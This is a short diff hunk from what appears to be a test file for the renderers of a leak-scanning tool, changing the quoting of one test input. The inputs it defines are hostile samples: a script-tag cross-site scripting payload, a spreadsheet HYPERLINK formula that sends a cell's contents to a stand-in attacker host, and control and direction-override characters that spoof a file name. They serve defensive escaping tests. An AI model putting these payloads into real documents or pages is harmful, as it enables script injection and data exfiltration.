@@ -16,7 +16,7 @@ from leakscan.renderers import RENDERERS, RenderOptions
 SCRIPT = "<script>alert(1)</script>"
 SIGNS = "\u202egnp.\u2066exe\x00\x1b[2J\u2028\ufeff\udcff"
 RIGHT_TO_LEFT = "\u0645\u0631\u064a\u0636 \u05d7\u05d5\u05dc\u05d4"
-FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1)"
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
 ATTACKS = {"script": SCRIPT, "signs": SIGNS, "right-to-left": RIGHT_TO_LEFT, "formula": FORMULA, "both": SIGNS + SCRIPT}
 FREE = frozenset(("path", "member", "column", "reason", "message"))
 OF_MACHINES = {"json", "edpb", "sarif", "ocsf"}
